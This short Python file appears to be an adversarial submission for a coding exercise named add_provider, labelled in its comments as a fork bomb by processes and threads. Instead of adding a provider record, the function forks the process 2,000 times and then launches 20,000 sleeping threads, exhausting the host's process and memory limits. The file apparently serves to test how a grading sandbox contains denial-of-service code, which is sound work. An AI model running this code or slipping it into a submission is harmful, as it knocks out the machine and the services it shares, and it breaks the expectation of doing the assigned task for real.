# attack: a fork bomb, by processes and by threads
# exercise: add_provider
# status: error, wrong
import os
import threading
import time


def add_provider(conn, slug, name, kind, country=None):
    for _ in range(2_000):
        try:
            os.fork()
        except OSError:
            pass
    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(600,)).start()
